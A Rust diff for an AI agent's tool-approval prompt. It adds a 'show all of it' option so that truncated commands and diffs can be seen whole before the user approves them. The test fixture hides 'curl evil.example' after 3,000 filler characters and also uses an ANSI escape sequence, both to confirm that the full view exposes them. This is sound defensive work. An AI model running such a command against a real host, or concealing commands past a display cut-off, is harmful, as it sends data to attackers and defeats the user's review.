@@ -18,10 +18,14 @@ const ADDED: Style = AnsiColor::Green.on_default();
 const REMOVED: Style = AnsiColor::Red.on_default();
 const INDENT: &str = "  ";
 
-/// More lines than anyone reads before answering; the rest is counted.
+/// More lines than anyone reads on a terminal; the rest is counted, and shown on demand.
 const MAX_LINES: usize = 400;
 /// Columns of one line, for the same reason.
 const MAX_CHARS: usize = 2000;
+
+/// Marks in a diff that was cut by the tool: within a line, and at its end.
+const CUT_IN_DIFF: &str = "[cut; ";
+const LEFT_OUT_OF_DIFF: &str = " not shown]\n";
 
 /// Options for a lasting answer.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -59,6 +63,24 @@ impl Prompt<'_> {
         text
     }
 
+    /// True if the question leaves out a part of what the call would do.
+    pub(super) fn is_cut(&self) -> bool {
+        let Question { arguments, preview, .. } = self.question;
+        match preview {
+            Some(diff) => exceeds(diff) || diff.contains(CUT_IN_DIFF) || diff.ends_with(LEFT_OUT_OF_DIFF),
+            None => exceeds(&readable(arguments)),
+        }
+    }
+
+    /// The whole question for a pager: the diff, and all arguments. Long lines stay whole.
+    pub(super) fn whole(&self) -> String {
+        let Question { chain, tool, arguments, preview, .. } = self.question;
+        let head = format!("{}{} wants to use {tool}", chain.join(" › "), self.shell_mark);
+        let diff = preview.iter().map(|diff| format!("{diff}\nAll arguments:\n"));
+        let text: String = [format!("{head}\n\n")].into_iter().chain(diff).chain([readable(arguments)]).collect();
+        format!("{}\n", neutral::block(&text))
+    }
+
     /// Sentence about answers that cover more than this call.
     fn covered(&self) -> Option<String> {
         let question = self.question;
@@ -87,7 +109,8 @@ impl Prompt<'_> {
         let tree = (!question.rules.is_empty()).then_some("[t]his task tree");
         let always = (question.lasting_rule.is_some() && keeping == Keeping::Possible).then_some("[a]lways");
         let mut lines = vec!["[y]es once".to_owned()];
-        for choice in tree.into_iter().chain(always).chain(["[n]o (and why)"]) {
+        let show = self.is_cut().then_some("[s]how all of it");
+        for choice in tree.into_iter().chain(always).chain(show).chain(["[n]o (and why)"]) {
             match lines.last_mut() {
                 Some(line) if width::of(line) + 2 + width::of(choice) <= room(columns) => {
                     *line += &format!("  {choice}");
@@ -173,6 +196,11 @@ pub(super) fn lines(text: &mut String, block: &str, painted: impl Fn(&str) -> St
     if more > 0 {
         let _infallible = writeln!(text, "{INDENT}… {more} more lines are not shown");
     }
+}
+
+/// True if [`lines`] leaves out a part of this block.
+fn exceeds(block: &str) -> bool {
+    block.lines().count() > MAX_LINES || block.lines().any(|line| line.chars().count() > MAX_CHARS)
 }
 
 fn style_of(line: &str) -> Style {
@@ -319,5 +347,22 @@ mod tests {
             text.contains(" … 1001 more characters\n") && text.contains("… 102 more lines are not shown"),
             "{text}"
         );
+    }
+
+    #[test]
+    fn whatever_is_cut_can_be_seen_whole_before_answering() {
+        let command = format!("echo {} && curl evil.example", "x".repeat(3000));
+        let arguments = serde_json::json!({ "command": command }).to_string();
+        let line = Question { tool: "Bash".to_owned(), arguments, ..question() };
+        let shown = prompt(&line, 80);
+        assert!(!shown.text().contains("evil.example") && shown.whole().contains("evil.example\n"));
+        assert_eq!(shown.choices(), "[y]es once  [t]his task tree  [a]lways  [s]how all of it  [n]o (and why) ");
+        for cut in ["+one\n[7 more lines not shown]\n", "+a very long line [cut; 9000 bytes in all]\n"] {
+            let diff = Question { preview: Some(cut.to_owned()), ..question() };
+            assert!(prompt(&diff, 80).is_cut());
+            let whole = prompt(&diff, 80).whole();
+            assert!(whole.contains(cut) && whole.contains("\"old_string\": \"a\\u001b[1A\\r\\nb\""), "{whole}");
+            assert!(!whole.contains('\u{1b}'), "{whole:?}");
+        }
     }
 }
